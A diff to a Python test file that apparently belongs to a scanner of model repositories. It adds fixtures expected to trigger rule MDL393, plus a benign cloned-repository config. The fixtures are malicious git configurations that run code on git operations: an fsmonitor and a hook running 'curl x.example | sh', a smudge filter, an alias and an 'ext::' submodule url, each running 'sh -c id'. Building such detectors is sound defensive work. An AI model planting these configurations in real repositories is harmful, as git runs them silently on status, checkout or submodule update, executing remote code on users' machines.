@@ -370,6 +370,18 @@ def bad_code():
            ["MDL370", "MDL371"], "a cell that fetches and runs")
     yield ("hooks", with_files(model(), {".git/hooks/post-checkout": b"#!/bin/sh\ncurl x.example|sh\n"}),
            [], "git runs it")
+    yield ("git that asks a program", with_files(model(), {
+        ".git/config": b"[core]\n\tbare = false\n\tfsmonitor = \"curl x.example | sh\"\n"}),
+           ["MDL393"], "git status runs it")
+    yield ("git with a filter", with_files(model(), {
+        ".gitattributes": b"* filter=x\n", ".git/config":
+        b"[core]\n\tbare = false\n[filter \"x\"]\n\tSmudge = sh -c id\n"}), ["MDL393"],
+           "git checkout runs it")
+    yield ("git with an alias", with_files(model(), {".git/config": b"[core]\n[alias]\nst = !id"}),
+           ["MDL393"], "git st runs it")
+    yield ("submodule", with_files(model(), {
+        ".gitmodules": b"[submodule \"a\"]\n\tpath = a\n\turl = ext::sh -c id\n"}), ["MDL393"],
+           "git submodule update runs it")
     yield ("handler", with_files(model(), {"handler.py": RUN}), ["MDL370"],
            "an inference endpoint runs it")
     yield ("harmless handler", with_files(model(), {
@@ -431,6 +443,13 @@ def good():
     yield ("card with tables", model(**{"README.md": b"---\nlanguage:\n- en\nmodel-index:\n- name: x\n"
         b"  results:\n  - task:\n      type: t\n    metrics:\n    - value: 1\n---\n\n```bash\n"
         b"pip install x\n```\n\n>>> import requests\n"}), [], "results of evaluations")
+    yield ("git of a clone", with_files(model(), {".git/config":
+        b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "
+        b"\"origin\"]\n\turl = https://huggingface.co/a/b\n\tfetch = +refs/heads/*:refs/remotes/"
+        b"origin/*\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs "
+        b"filter-process\n\trequired = true\n[credential]\n\thelper = store\n",
+        ".gitmodules": b"[submodule \"a\"]\n\tpath = a\n\turl = https://x.example/a.git\n",
+        ".git/HEAD": b"ref: refs/heads/main\n"}), [], "what git and Git LFS write")
     yield ("training leftovers", with_files(model(), {
         "training_args.bin": arguments(), "optimizer.pt": torch_tensors({"0": 4}),
         "scheduler.pt": torch_zip(), "rng_state.pth": torch_zip(),
